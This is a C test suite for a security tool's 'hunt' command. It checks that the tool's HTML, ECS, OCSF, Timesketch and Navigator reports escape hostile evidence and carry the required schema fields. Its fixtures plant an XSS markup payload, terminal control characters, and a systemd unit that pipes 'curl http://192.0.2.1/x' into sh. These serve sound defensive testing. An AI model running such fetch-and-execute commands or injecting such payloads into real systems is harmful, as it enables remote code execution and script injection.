/* check_report.c -- the forms of a hunt's result: the page for a browser and the schemas of other
 * programs, with evidence whose every text is markup. tests/report.sh opens the page in a browser. */
#include "program/program.h"

#include <cjson/cJSON.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>

#include "harness.h"

#define MARKUP "</script><img src=http://evidence.invalid/x onerror=alert(1)>"

/* A host whose names, texts and paths are markup, bidirectional and control characters. */
static const char *hostile_host(void)
{
    const char *dir = harness_scratch();

    harness_write_text(dir, "etc/os-release", "ID=debian\n");
    harness_write_text(dir, "etc/hostname", "web9\n");
    harness_write_text(dir, "etc/passwd", "root:x:0:0::/root:/bin/bash\n");
    harness_write_text(dir, "etc/systemd/system/markup.service",
                       "[Unit]\nDescription=" MARKUP "\xe2\x80\xae\n"
                       "[Service]\nExecStart=/tmp/" MARKUP "\n");
    harness_write_text(dir, "etc/systemd/system/plain.service",
                       "[Service]\nExecStart=/bin/sh -c 'curl http://192.0.2.1/x | sh'\n");
    harness_write_text(dir, "root/.bash_history",
                       "#1790000000\nsystemctl enable --now /tmp/\xc2\x9b" MARKUP ".service\n");
    return dir;
}

/* What a hunt prints in that form. */
static char *hunt(const char *form, const char *dir)
{
    char   line[8192], path[4096];
    size_t size;

    snprintf(path, sizeof path, "%s/out.%s", harness_scratch(), form);
    snprintf(line, sizeof line, "%s hunt -S info -f %s -e %s -o %s 2> /dev/null", harness_program(),
             form, dir, path);
    int status = system(line);
    ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == EXIT_FINDINGS, "%s: %d", form,
                  status);
    return harness_read(path, &size);
}

/* The member at a path of names and indices separated by '/', which must be there. */
static const cJSON *at(const cJSON *json, const char *path)
{
    char        copy[256], *left = copy, *name;
    const char *line = cJSON_PrintUnformatted(json);

    snprintf(copy, sizeof copy, "%s", path);
    while ((name = strsep(&left, "/"))) {
        json = cJSON_IsArray(json) ? cJSON_GetArrayItem(json, atoi(name))
                                   : cJSON_GetObjectItemCaseSensitive(json, name);
        ck_assert_msg(json && !cJSON_IsNull(json), "%s of %s is missing in %s", name, path, line);
    }
    free((void *)line);
    return json;
}

/* Each line is an object that has all of these; the number of lines. */
static int expect_lines(char *text, const char *const *paths)
{
    char *line;
    int   n = 0;

    for (; (line = strsep(&text, "\n")) && *line; n++) {
        cJSON *json = cJSON_Parse(line);
        ck_assert_msg(json != NULL, "%s", line);
        for (size_t i = 0; paths[i]; i++)
            at(json, paths[i]);
        cJSON_Delete(json);
    }
    return n;
}

/* Fields without which Elastic's Security reads no event: Elastic Security 8.18, "ECS field
 * reference", always required fields. */
START_TEST(ecs_has_the_fields_that_its_reader_requires)
{
    static const char *const paths[] = {
        "@timestamp",     "ecs/version", "event/kind", "event/category/0", "event/type/0",
        "event/severity", "host/name",   "message",    "event/id",         NULL};

    ck_assert_int_eq(expect_lines(hunt("ecs", hostile_host()), paths), 3);
}
END_TEST

/* Attributes with the requirement "required" in ocsf-schema 1.8.0: base_event, finding,
 * objects/metadata, finding_info, analytic, device, os. */
START_TEST(ocsf_has_the_attributes_that_its_schema_requires)
{
    static const char *const paths[] = {"activity_id",
                                        "category_uid",
                                        "class_uid",
                                        "metadata/version",
                                        "metadata/product/vendor_name",
                                        "severity_id",
                                        "time",
                                        "type_uid",
                                        "finding_info/uid",
                                        "finding_info/title",
                                        "finding_info/analytic/type_id",
                                        "finding_info/attacks/0/technique/uid",
                                        "device/type_id",
                                        "device/os/name",
                                        "device/os/type_id",
                                        NULL};

    char  *text = hunt("ocsf", hostile_host());
    cJSON *first = cJSON_ParseWithOpts(text, NULL, false);
    ck_assert_double_eq(at(first, "type_uid")->valuedouble,
                        at(first, "class_uid")->valuedouble * 100 +
                            at(first, "activity_id")->valuedouble);
    ck_assert_double_gt(at(first, "time")->valuedouble, 1e12);
    cJSON_Delete(first);
    ck_assert_int_eq(expect_lines(text, paths), 3);
}
END_TEST

/* Mandatory fields of Timesketch's documentation, "Import from JSON or CSV". */
START_TEST(timesketch_has_the_fields_that_its_import_requires)
{
    static const char *const paths[] = {"message", "datetime", "timestamp_desc", "timestamp", NULL};

    char *text = hunt("timesketch", hostile_host());
    ck_assert_ptr_nonnull(strstr(text, "\"datetime\":\"2026-09-21T14:13:20.000+00:00\""));
    ck_assert_int_eq(expect_lines(text, paths), 3);
}
END_TEST

START_TEST(a_navigator_layer_counts_findings_by_technique)
{
    static const char *const paths[] = {
        "versions/attack",          "versions/layer",     "domain", "name",
        "techniques/0/techniqueID", "techniques/0/score", NULL};
    static const char scored[] = "\"techniqueID\":\"T1543.002\",\"score\":";
    char             *text = hunt("navigator", hostile_host());
    const char       *first = strstr(text, scored);

    ck_assert_msg(first && atoi(first + strlen(scored)) == 3, "%s", text);
    ck_assert_int_eq(expect_lines(text, paths), 1);
}
END_TEST

/* Memory that stays until the program ends. */
static char *keep(char *text)
{
    static char *kept[16];
    static int   n;

    ck_assert_int_lt(n, 16);
    return kept[n++] = text;
}

/* Between the two, without either. */
static char *between(const char *text, const char *start, const char *end)
{
    const char *from = strstr(text, start);
    ck_assert_msg(from != NULL, "no %s", start);
    from += strlen(start);
    const char *to = strstr(from, end);
    ck_assert_msg(to != NULL, "no %s after %s", end, start);
    return keep(strndup(from, (size_t)(to - from)));
}

static int count(const char *text, const char *part)
{
    int n = 0;

    for (; (text = strstr(text, part)); text += strlen(part))
        n++;
    return n;
}

START_TEST(the_page_holds_evidence_as_data_only)
{
    char *page = hunt("html", hostile_host());
    char *nonce = between(page, "script-src 'nonce-", "'");

    ck_assert_uint_eq(strlen(nonce), 32);
    ck_assert_int_eq(count(page, nonce), 5); /* twice in the policy, and on three elements */
    ck_assert_int_eq(count(page, "</script>"), 2);
    ck_assert_ptr_null(strstr(page, "<img"));
    ck_assert_ptr_null(strstr(page, "\xc2\x9b"));
    ck_assert_ptr_nonnull(strstr(page, "default-src 'none'"));
    cJSON *data = cJSON_Parse(between(page, "id=\"data\" nonce=", "</script>") + 35);
    ck_assert_ptr_nonnull(data);
    ck_assert_int_eq(cJSON_GetArraySize(at(data, "findings")), 3);
    ck_assert_int_eq(cJSON_GetArraySize(at(data, "services")), 2);
    ck_assert_int_eq(cJSON_GetArraySize(at(data, "incidents")), 2);
    ck_assert_str_eq(at(data, "hosts/0/host")->valuestring, "web9");
    ck_assert_str_eq(at(data, "made/severity")->valuestring, "info");
    for (const char *const *key =
             (const char *const[]){"posture", "problems", "spans", "gaps", "techniques", NULL};
         *key; key++)
        ck_assert_msg(cJSON_IsArray(at(data, *key)), "%s", *key);
    cJSON_Delete(data);
}
END_TEST

START_TEST(no_two_pages_have_the_same_nonce)
{
    const char *dir = hostile_host();

    ck_assert_str_ne(between(hunt("html", dir), "'nonce-", "'"),
                     between(hunt("html", dir), "'nonce-", "'"));
}
END_TEST

START_TEST(no_form_acts_on_a_terminal)
{
    static const char *const forms[] = {"html", "navigator", "timesketch", "ecs", "ocsf"};
    const char              *dir = hostile_host();

    for (size_t i = 0; i < sizeof forms / sizeof forms[0]; i++) {
        char *text = hunt(forms[i], dir);
        ck_assert_ptr_null(strstr(text, "\xc2\x9b"));
        ck_assert_ptr_null(strchr(text, '\033'));
        ck_assert_ptr_null(strchr(text, 0x7f));
    }
}
END_TEST

/* A grade that is an option holds in every form. */
START_TEST(forms_show_what_the_options_select)
{
    const char *dir = hostile_host();
    char        line[8192];

    snprintf(line, sizeof line,
             "test $(%s hunt -S critical -f ecs -e %s | grep -c .) -lt "
             "$(%s hunt -S info -f ecs -e %s | grep -c .)",
             harness_program(), dir, harness_program(), dir);
    ck_assert_int_eq(system(line), 0);
    snprintf(line, sizeof line, "%s hunt -S critical -f ecs -e %s | grep -q '\"severity\":[1-7]'",
             harness_program(), dir);
    ck_assert_int_ne(system(line), 0);
}
END_TEST

Suite *make_report_suite(void)
{
    const TTest *const tests[] = {
        ecs_has_the_fields_that_its_reader_requires,
        ocsf_has_the_attributes_that_its_schema_requires,
        timesketch_has_the_fields_that_its_import_requires,
        a_navigator_layer_counts_findings_by_technique,
        the_page_holds_evidence_as_data_only,
        no_two_pages_have_the_same_nonce,
        no_form_acts_on_a_terminal,
        forms_show_what_the_options_select,
    };

    Suite *suite = suite_create("report");
    TCase *tcase = tcase_create("report");

    for (size_t i = 0; i < sizeof tests / sizeof tests[0]; i++)
        tcase_add_test(tcase, tests[i]);
    tcase_set_timeout(tcase, 60);
    suite_add_tcase(suite, tcase);
    return suite;
}
